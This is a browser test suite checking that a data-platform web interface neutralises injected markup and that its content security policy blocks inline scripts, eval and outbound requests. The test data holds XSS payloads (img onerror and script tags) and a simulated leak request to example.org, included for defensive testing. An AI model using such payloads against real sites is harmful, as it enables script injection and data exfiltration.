// Texts from sources, and from people, are never markup; nothing is loaded from
// others; and what the policy forbids stays forbidden.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { closeBrowser, ended, openPage, settled, shot, signIn, startPlatform, startShop } from './kit.mjs';

const planted = (n) => `<img src=x onerror="window.planted=(window.planted||0)+1" class="planted-${n}"><script>window.planted=99</script>`;
let shop, platform, connection;

before(async () => {
  [shop, platform] = await Promise.all([startShop(), startPlatform()]);
  const { api, dir } = platform;
  // Names, teams, labels, addresses and the errors that repeat them.
  await api('POST', '/api/v1/sources', { name: `s ${planted('source')}`.slice(0, 120), connector: 'shop', config: { base_url: shop.url, api_key: '<b>wrong</b>' }, team: planted('team').slice(0, 60), labels: { env: '<i>prod</i>' } });
  await api('POST', '/api/v1/destinations', { name: `d ${planted('destination')}`.slice(0, 120), connector: 'duckdb', config: { path: `${dir}/w.duckdb` } });
  const source = (await api('GET', '/api/v1/sources')).items[0];
  const destination = (await api('GET', '/api/v1/destinations')).items[0];
  connection = await api('POST', '/api/v1/connections', { name: `c ${planted('connection')}`.slice(0, 120), source: source.id, destination: destination.id, schema: 'planted', team: planted('team').slice(0, 60), labels: { env: '<i>prod</i>' } });
  await api('POST', `/api/v1/connections/${connection.id}/sync`);
  await ended(platform, connection.id);
});
after(async () => {
  await closeBrowser();
  await platform?.stop();
  await shop?.stop();
});

test('markup that is planted everywhere is shown as text, and does nothing', async () => {
  const page = await signIn(platform);
  const id = connection.id;
  const addresses = ['/', '/?display=wall', '/?group=destination', '/connections', '/sources', '/destinations', '/setup', '/catalogue', '/system', '/people/users', '/people/audit', '/health/incidents', '/health/wall', '/health/tickets'];
  for (const tab of ['timeline', 'syncs', 'streams', 'schema', 'state', 'logs', 'settings', 'charts']) addresses.push(`/connections/${id}/${tab}`);
  addresses.push(`/connections?q=${encodeURIComponent(planted('search'))}`, `/sign-in?error=${encodeURIComponent(planted('error'))}`, `/connections/${encodeURIComponent(planted('id'))}/timeline`);
  let seen = 0;
  for (const at of addresses) {
    await page.goto(at);
    await settled(page);
    await page.waitForLoadState('load');
    await page.waitForTimeout(300);
    const found = await page.evaluate(() => ({ ran: window.planted ?? 0, made: document.querySelectorAll('[class^="planted-"], main i, main b > b').length, shown: document.body.innerText.includes('onerror') }));
    assert.equal(found.ran, 0, `markup ran on ${at}`);
    assert.equal(await page.locator('[class^="planted-"]').count(), 0, `markup became elements on ${at}`);
    if (found.shown) seen++;
  }
  assert.ok(seen >= 4, `the planted texts were shown on ${seen} pages only: is this test looking?`);
  assert.deepEqual(page.faults().filter((f) => /^error|request to|policy/i.test(f)), []);
  await page.goto('/connections');
  await settled(page);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: /Search pages/ }).fill('onerror');
  await page.getByRole('option').first().waitFor();
  assert.equal(await page.evaluate(() => window.planted ?? 0), 0);
  await shot(page, 'safety-palette');
  await page.done();
});

test('a script that got in could not run, nor tell anyone', async () => {
  const page = await openPage(platform);
  await page.goto('/sign-in');
  await page.getByRole('heading', { level: 1 }).waitFor();
  const tried = await page.evaluate(async () => {
    const out = {};
    const inline = document.createElement('script');
    try {
      inline.textContent = 'window.ran = 1';
      document.body.append(inline);
    } catch (e) {
      out.inline = e.name;
    }
    try {
      document.body.innerHTML += '<p>x</p>';
      out.markup = 'made';
    } catch (e) {
      out.markup = e.name;
    }
    // What the driver runs itself may evaluate; what runs later may not.
    await new Promise((done) =>
      setTimeout(() => {
        try {
          (0, eval)('window.ran = 2');
        } catch (e) {
          out.eval = e.name;
        }
        done();
      }),
    );
    try {
      await fetch('https://example.org/?leak');
      out.fetch = 'sent';
    } catch {
      out.fetch = 'refused';
    }
    return { ...out, ran: window.ran ?? 0 };
  });
  assert.equal(tried.ran, 0);
  assert.equal(tried.markup, 'TypeError');
  assert.equal(tried.eval, 'EvalError');
  assert.equal(tried.fetch, 'refused');
  await page.done();
});

test('the palette goes to pages, connections and actions by keys alone', async () => {
  const page = await signIn(platform);
  await page.keyboard.press('Control+k');
  const field = page.getByRole('combobox', { name: /Search pages/ });
  await field.fill('conn');
  await page.keyboard.press('Enter');
  await page.waitForURL('**/connections');
  await settled(page);
  await page.keyboard.press('Control+k');
  await field.fill('pause c');
  await page.getByRole('option', { name: /^Pause c/ }).waitFor();
  await page.keyboard.press('Enter');
  await page.getByText(/it is paused/).first().waitFor();
  assert.equal((await platform.api('GET', `/api/v1/connections/${connection.id}`)).paused, true);
  await page.done();
});
